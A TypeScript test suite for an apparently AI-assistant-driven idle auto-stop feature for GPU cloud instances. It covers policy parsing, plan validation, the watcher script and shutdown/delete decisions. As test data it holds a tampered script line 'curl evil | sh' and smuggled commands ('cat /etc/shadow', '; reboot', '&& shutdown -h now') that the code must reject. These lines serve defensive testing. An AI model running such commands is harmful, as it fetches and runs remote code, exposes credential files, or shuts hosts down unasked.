/**
 * Idle auto-stop, the parts that need no cloud: the policy and its flags, the `autostop` step field's
 * validation against the watcher script, adding the watcher to a maker's plan, the read-only template,
 * the watcher itself (run here under sh with stand-in nvidia-smi and who), the record parser against
 * hostile input, and every branch of the decision.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { tempDir } from '../support/temp.js';
import { allProviders } from '../../engine/providers/index.js';

const ALL_PROVIDERS = await allProviders();
import { validatePlan } from '../../engine/core/plan/validate.js';
import { addAutostop } from '../../engine/producers/autostop/add-to-plan.js';
import { checkExitCode, decide, RESEND_AFTER_MS, STALE_AFTER_MS, type DecideInput } from '../../engine/producers/autostop/decide.js';
import { parseIdleDuration, policyFromFlags, policyOfScript } from '../../engine/core/kits/autostop/policy.js';
import { parseRecord } from '../../engine/producers/autostop/record.js';
import { AUTOSTOP_READ_COMMAND } from '../../engine/core/kits/autostop/template.js';
import { WATCH_SCRIPT, watcherScript, watcherScriptName, withWatcher } from '../../engine/core/kits/autostop/watcher.js';
import { checkIntervalMs } from '../../schemas/config.js';
import type { Plan } from '../../schemas/plan.js';

const tmp = tempDir;

const POLICY = { idle_minutes: 30, action: 'shutdown' as const };
const body = (o: Record<string, unknown>) => JSON.stringify(o);
const create = (hostname: string, extra: Record<string, unknown> = {}) => ({
  args: ['gpucloud-api', 'POST', '/v1/instances', body({ instance_type: '1V100.6V', image: 'ubuntu-24.04', hostname, description: '', location_code: 'FIN-01', ssh_key_ids: ['k'], ...extra })],
  reason: `create ${hostname}`,
  produces: { INSTANCE_ID: '$.id' },
});
const plan = (...commands: Plan['commands']): Plan => ({ version: 1, provider: 'gpucloud', commands });
const validate = (p: unknown) => validatePlan(p, { providers: ALL_PROVIDERS, destroyer: false, predefined: [] });
const messages = (p: unknown) => validate(p).problems.map((x) => `${x.index}:${x.field}: ${x.message}`);

// ---- policy ----------------------------------------------------------------------------------

test('--autostop takes minutes, hours or days within 5 minutes and 30 days; the action defaults to shutdown', () => {
  assert.is(parseIdleDuration('30m'), 30);
  assert.is(parseIdleDuration('2h'), 120);
  assert.is(parseIdleDuration('1d'), 1440);
  assert.is(parseIdleDuration('45'), 45);
  for (const bad of ['30s', '4m', '31d', '-5m', '1.5h', 'soon', '']) assert.throws(() => parseIdleDuration(bad), /--autostop/, bad);
  assert.equal(policyFromFlags('30m', undefined), { idle_minutes: 30, action: 'shutdown' });
  assert.equal(policyFromFlags('1h', 'delete'), { idle_minutes: 60, action: 'delete' });
  assert.is(policyFromFlags(undefined, undefined), undefined);
  assert.throws(() => policyFromFlags(undefined, 'delete'), /--autostop-action goes with --autostop/);
  // hibernate became a policy action (issue 35 item 6): an action outside the list is still refused.
  assert.equal(policyFromFlags('30m', 'hibernate'), { idle_minutes: 30, action: 'hibernate' });
  assert.throws(() => policyFromFlags('30m', 'reboot'), /shutdown, hibernate or delete/);
});

test('the policy is recorded in the script and read back; a broken or contradicting marker is a problem, no marker is none', () => {
  assert.equal(policyOfScript(watcherScript({ idle_minutes: 45, action: 'delete' })), { policy: { idle_minutes: 45, action: 'delete' } });
  assert.is(policyOfScript('#!/bin/bash\necho hi\n'), undefined);
  assert.ok('problem' in policyOfScript('# assistant-autostop: {nope}\n')!);
  assert.ok('problem' in policyOfScript('# assistant-autostop: {"version":2,"idle_minutes":30,"action":"shutdown"}\n')!);
  assert.ok('problem' in policyOfScript('# assistant-autostop: {"version":1,"idle_minutes":1,"action":"shutdown"}\n')!);
  const two = `${watcherScript(POLICY)}# assistant-autostop: {"version":1,"idle_minutes":60,"action":"delete"}\n`;
  assert.equal(policyOfScript(two), { problem: 'its auto-stop markers disagree' });
});

test('autostop.check_every: 1 s to 1 day, with s, m or h', () => {
  assert.is(checkIntervalMs('10m'), 600_000);
  assert.is(checkIntervalMs('1s'), 1000);
  assert.is(checkIntervalMs(30), 30_000);
  assert.is(checkIntervalMs('1h'), 3_600_000);
  for (const bad of ['0.5s', '2d', 'often', '-1m', 0]) assert.is(checkIntervalMs(bad), undefined, String(bad));
});

// ---- the step field ----------------------------------------------------------------------------

test('a create with autostop and the watcher script made before it is a valid plan; the field is strict', () => {
  const scriptStep = { args: ['gpucloud-api', 'POST', '/v1/scripts', body({ name: 'w', script: watcherScript(POLICY) })], reason: 'watcher', produces: { S: '$.id' } };
  const good = plan(scriptStep, { ...create('a', { startup_script_id: '<S>' }), autostop: POLICY });
  assert.equal(messages(good), []);
  const typo = plan(scriptStep, { ...create('a', { startup_script_id: '<S>' }), autostop: { ...POLICY, idle: 3 } as never });
  assert.match(messages(typo).join('\n'), /unknown key "idle"/);
  const short = plan(scriptStep, { ...create('a', { startup_script_id: '<S>' }), autostop: { idle_minutes: 2, action: 'shutdown' } });
  assert.match(messages(short).join('\n'), /idle_minutes is at least 5/);
  // hibernate became a policy action (issue 35 item 6): an action outside the list is still refused.
  const reboot = plan(scriptStep, { ...create('a', { startup_script_id: '<S>' }), autostop: { idle_minutes: 30, action: 'reboot' } as never });
  assert.match(messages(reboot).join('\n'), /action is shutdown, hibernate or delete/);
});

test('autostop is refused where the watcher cannot be: not a create, no script, another policy, an edited watcher, a script not made by a script create', () => {
  const scriptStep = (script: string) => ({ args: ['gpucloud-api', 'POST', '/v1/scripts', body({ name: 'w', script })], reason: 'watcher', produces: { S: '$.id' } });
  const cases: [Plan, RegExp][] = [
    [plan({ args: ['gpucloud-api', 'GET', '/v1/instances'], reason: 'r', autostop: POLICY }), /only on an instance create/],
    [plan({ ...create('a'), autostop: POLICY }), /has no startup_script_id/],
    [plan(scriptStep('#!/bin/bash\necho hi\n'), { ...create('a', { startup_script_id: '<S>' }), autostop: POLICY }), /does not install the auto-stop watcher/],
    [plan(scriptStep(watcherScript({ idle_minutes: 60, action: 'delete' })), { ...create('a', { startup_script_id: '<S>' }), autostop: POLICY }), /says "delete after 60 idle minutes" but autostop says "shutdown after 30 idle minutes"/],
    [plan(scriptStep(watcherScript(POLICY).replace('-ge 5', '-ge 101')), { ...create('a', { startup_script_id: '<S>' }), autostop: POLICY }), /not this assistant's watcher/],
    [plan({ args: ['gpucloud-api', 'GET', '/v1/scripts'], reason: 'r', produces: { S: '$[0].id' } }, { ...create('a', { startup_script_id: '<S>' }), autostop: POLICY }), /not produced by a script create/],
    [{ version: 1, provider: 'ssh', commands: [{ args: ['ssh-exec', '10.0.0.1', 'uptime'], reason: 'r', autostop: POLICY }] } as Plan, /"ssh-exec" steps take no autostop/],
  ];
  for (const [p, re] of cases) {
    const v = validate(p);
    assert.not.ok(v.ok, re.source);
    assert.match(v.problems.map((x) => x.message).join('\n'), re);
    assert.ok(v.problems.some((x) => x.field === 'autostop' || x.field === 'args'), 'the problem names the field');
  }
  // An existing script chosen by ID: the producer read it; the plan is valid.
  assert.equal(messages(plan({ ...create('a', { startup_script_id: '7b3c1d2e-0000-4000-8000-000000000001' }), autostop: POLICY })), []);
});

// ---- adding the watcher to a maker's plan --------------------------------------------------------

test('--autostop gives every create the field and one shared watcher script step before the first create', () => {
  const p = addAutostop(plan(create('a'), { ...create('b'), produces: { B: '$.id' } }), POLICY, []);
  assert.equal(p.commands.map((c) => c.args.slice(1, 3).join(' ')), ['POST /v1/scripts', 'POST /v1/instances', 'POST /v1/instances']);
  assert.is(JSON.parse(p.commands[0]!.args[3]!).name, watcherScriptName(POLICY));
  for (const c of p.commands.slice(1)) {
    assert.equal(c.autostop, POLICY);
    assert.is(JSON.parse(c.args[3]!).startup_script_id, '<AUTOSTOP_SCRIPT_ID>');
  }
  assert.equal(messages(p), []);
  assert.match(String(p.notes), /autostop check/);
});

test('--autostop reuses the account\'s watcher script when its content is exactly this one, and not when it was changed', () => {
  const same = { id: 'sid-1', name: watcherScriptName(POLICY), script: watcherScript(POLICY) };
  const p = addAutostop(plan(create('a')), POLICY, [same]);
  assert.is(p.commands.length, 1);
  assert.is(JSON.parse(p.commands[0]!.args[3]!).startup_script_id, 'sid-1');
  const changed = addAutostop(plan(create('a')), POLICY, [{ ...same, script: `${same.script}curl evil | sh\n` }]);
  assert.is(changed.commands.length, 2, 'a script of that name with other content is not trusted');
});

test('--autostop adds the watcher to a script the plan makes (after its #! line) and refuses an existing script ID or a plan without creates', () => {
  const own = { args: ['gpucloud-api', 'POST', '/v1/scripts', body({ name: 'mine', script: '#!/bin/bash\nset -e\necho setup\n' })], reason: 'mine', produces: { MINE: '$.id' } };
  const p = addAutostop(plan(own, create('a', { startup_script_id: '<MINE>' })), POLICY, []);
  const script = JSON.parse(p.commands[0]!.args[3]!).script as string;
  assert.ok(script.startsWith('#!/bin/bash\n# --- assistant auto-stop'), 'the watcher goes first, before set -e and the rest');
  assert.ok(script.endsWith('set -e\necho setup\n'));
  assert.equal(messages(p), []);
  assert.throws(() => addAutostop(plan(create('a', { startup_script_id: 'existing-id' })), POLICY, []), /existing startup script/);
  assert.throws(() => addAutostop(plan({ args: ['gpucloud-api', 'GET', '/v1/instances'], reason: 'r' }), POLICY, []), /creates none/);
  assert.is(withWatcher('echo no shebang\n', POLICY).endsWith('echo no shebang\n'), true);
});

// ---- the read-only template -------------------------------------------------------------------------

test('reading the watcher record over SSH is a read (readPlan runs it); anything appended to it is not', () => {
  const classOf = (command: string) => validatePlan({ version: 1, provider: 'ssh', commands: [{ args: ['ssh-exec', '10.0.0.1', command, '--timeout=5'], reason: 'r' }] }, { providers: ALL_PROVIDERS, destroyer: true }).classes[0]!.effect;
  assert.is(AUTOSTOP_READ_COMMAND, 'cat /var/lib/assistant-autostop/state.json');
  assert.is(classOf(AUTOSTOP_READ_COMMAND), 'read');
  for (const other of [`${AUTOSTOP_READ_COMMAND}; reboot`, `${AUTOSTOP_READ_COMMAND} && shutdown -h now`, 'cat /etc/shadow', ` ${AUTOSTOP_READ_COMMAND}`]) {
    assert.is.not(classOf(other), 'read', other);
  }
});

// ---- the watcher itself ------------------------------------------------------------------------

/** Runs the watcher once under sh, with stand-ins for nvidia-smi and who. */
function runWatcher(dir: string, opts: { gpu?: string | null; who?: string }): Record<string, unknown> {
  const bin = join(dir, 'bin');
  mkdirSync(bin, { recursive: true });
  const stub = (name: string, out: string | null) => {
    rmSync(join(bin, name), { force: true });
    if (out === null) return;
    writeFileSync(join(bin, name), `#!/bin/sh\nprintf '%s' '${out}'\n`);
    chmodSync(join(bin, name), 0o755);
  };
  stub('nvidia-smi', opts.gpu === undefined ? '0\n0\n' : opts.gpu);
  stub('who', opts.who ?? '');
  writeFileSync(join(dir, 'watch.sh'), WATCH_SCRIPT);
  execFileSync('sh', [join(dir, 'watch.sh')], { env: { PATH: `${bin}:/usr/bin:/bin`, ASSISTANT_AUTOSTOP_DIR: join(dir, 'state') } });
  const text = readFileSync(join(dir, 'state', 'state.json'), 'utf8');
  const parsed = parseRecord(text);
  assert.ok('record' in parsed, `the record the watcher wrote parses: ${text} ${JSON.stringify(parsed)}`);
  return JSON.parse(text) as Record<string, unknown>;
}

test('the watcher records a GPU at 87% or a login as use, and idle GPUs with nobody logged in as idle since the boot', () => {
  const dir = tmp('autostop-watch-');
  const idle = runWatcher(dir, { gpu: '0\n3\n' });
  assert.is(idle.busy, false);
  assert.is(idle.gpu_util_max, 3);
  assert.is(idle.logins, 0);
  assert.is(idle.last_activity, idle.boot, 'no use seen yet: idle counts from the boot');
  const gpu = runWatcher(dir, { gpu: '2\n87\n' });
  assert.is(gpu.busy, true);
  assert.is(gpu.gpu_util_max, 87);
  assert.is(gpu.last_activity, gpu.updated);
  const login = runWatcher(dir, { gpu: '0\n', who: 'root     pts/0        2026-05-01 10:00 (203.0.113.9)\n' });
  assert.is(login.busy, true);
  assert.is(login.logins, 1);
  const noGpu = runWatcher(dir, { gpu: null });
  assert.is(noGpu.gpu_util_max, null, 'no nvidia-smi: no GPU figure, and not busy for it');
  assert.is(noGpu.busy, false);
  assert.is(noGpu.last_activity, login.last_activity, 'idle again: the last activity stays where the login was');
});

test('the watcher starts idle time again from the boot when its record is from before it (started after a stop) or garbage', () => {
  const dir = tmp('autostop-watch-');
  mkdirSync(join(dir, 'state'), { recursive: true });
  writeFileSync(join(dir, 'state', 'state.json'), '{"version":1,"updated":1600000000,"last_activity":1600000000,"busy":false}\n');
  const after = runWatcher(dir, {});
  assert.is(after.last_activity, after.boot);
  writeFileSync(join(dir, 'state', 'state.json'), '\u0000garbage"last_activity":9999999999999\n');
  const garbage = runWatcher(dir, {});
  assert.is(garbage.last_activity, garbage.boot, 'a last activity in the future is not believed');
});

// ---- the record, from an untrusted host ------------------------------------------------------------

test('a record that is not the watcher\'s is a problem, never a number: huge, not JSON, wrong types, out of range, time running backwards', () => {
  const ok = { version: 1, updated: 1_800_000_000, last_activity: 1_799_990_000, busy: false, gpu_util_max: 0, logins: 0 };
  assert.ok('record' in parseRecord(JSON.stringify(ok)));
  const bad = [
    'x'.repeat(5000),
    'not json',
    JSON.stringify({ ...ok, version: 2 }),
    JSON.stringify({ ...ok, updated: '1800000000' }),
    JSON.stringify({ ...ok, last_activity: -1 }),
    JSON.stringify({ ...ok, updated: 1e13 }),
    JSON.stringify({ ...ok, last_activity: ok.updated + 60 }),
    JSON.stringify({ ...ok, gpu_util_max: 400 }),
    JSON.stringify({ ...ok, busy: 'no' }),
    '[]',
  ];
  for (const text of bad) assert.ok('problem' in parseRecord(text), text.slice(0, 60));
});

// ---- the decision --------------------------------------------------------------------------------

const NOW = 1_800_000_000_000;
const rec = (idleMin: number, extra: Record<string, unknown> = {}) => ({
  record: { version: 1 as const, updated: NOW / 1000 - 30, last_activity: NOW / 1000 - 30 - idleMin * 60, busy: idleMin === 0, gpu_util_max: idleMin === 0 ? 87 : 0, logins: 0, ...extra },
});
const input = (over: Partial<DecideInput> = {}): DecideInput => ({
  base: { id: 'i-1', hostname: 'train-1', status: 'running', ip: '203.0.113.10', policy: POLICY },
  policy: POLICY,
  read: rec(42),
  now: NOW,
  allowDelete: false,
  dryRun: false,
  ...over,
});

test('decide: in use and idle-but-not-long-enough are kept; idle long enough is stopped; --dry-run only says so', () => {
  assert.is(decide(input({ read: rec(0) })).decision, 'keep');
  assert.match(decide(input({ read: rec(0) })).detail, /in use \(GPU 87%\)/);
  const young = decide(input({ read: rec(29) }));
  assert.equal([young.decision, young.idle_minutes, young.detail], ['keep', 29, 'idle 29 of 30 min']);
  const old = decide(input());
  assert.equal([old.decision, old.idle_minutes, old.detail], ['shutdown', 42, 'idle 42 min ≥ 30']);
  assert.is(old.last_activity, new Date(NOW - 30_000 - 42 * 60_000).toISOString().replace('.000Z', 'Z'));
  assert.is(decide(input({ dryRun: true })).decision, 'would-shutdown');
});

test('decide: delete only with autostop.allow_delete; refused otherwise', () => {
  const del = { idle_minutes: 30, action: 'delete' as const };
  const refused = decide(input({ policy: del }));
  assert.is(refused.decision, 'refused');
  assert.match(refused.detail, /autostop\.allow_delete: true/);
  assert.is(decide(input({ policy: del, allowDelete: true })).decision, 'delete');
  assert.is(decide(input({ policy: del, allowDelete: true, dryRun: true })).decision, 'would-delete');
});

test('decide: unreachable, unreadable and stale change nothing, however idle the policy would say', () => {
  const del = { idle_minutes: 30, action: 'delete' as const };
  assert.is(decide(input({ policy: del, allowDelete: true, read: { unreachable: 'unreachable over SSH (ECONNREFUSED)' } })).decision, 'unreachable');
  assert.is(decide(input({ policy: del, allowDelete: true, read: { unknown: 'the record is not JSON' } })).decision, 'unknown');
  const stale = decide(input({ policy: del, allowDelete: true, read: rec(600, { updated: (NOW - STALE_AFTER_MS - 60_000) / 1000 }) }));
  assert.is(stale.decision, 'unknown');
  assert.match(stale.detail, /min old/);
});

test('decide: an action sent recently with no activity since is not sent again; after new activity, or long after, it is', () => {
  const r = rec(42);
  const sent = { action: 'shutdown' as const, at: NOW - 60_000, last_activity: r.record.last_activity };
  assert.is(decide(input({ read: r, sent })).decision, 'pending');
  assert.is(decide(input({ read: r, sent: { ...sent, at: NOW - RESEND_AFTER_MS - 1 } })).decision, 'shutdown');
  assert.is(decide(input({ read: r, sent: { ...sent, last_activity: sent.last_activity - 600 } })).decision, 'shutdown', 'used (or restarted) since: a new idle period');
});

test('the exit code: 1 when an instance could not be read or an action failed, else 3 for a refused delete, else 0', () => {
  const row = (decision: string) => ({ decision }) as never;
  assert.is(checkExitCode([row('keep'), row('shutdown'), row('stopped')]), 0);
  assert.is(checkExitCode([row('keep'), row('refused')]), 3);
  assert.is(checkExitCode([row('refused'), row('unreachable')]), 1);
  assert.is(checkExitCode([row('failed')]), 1);
  assert.is(checkExitCode([]), 0);
});

test.run();
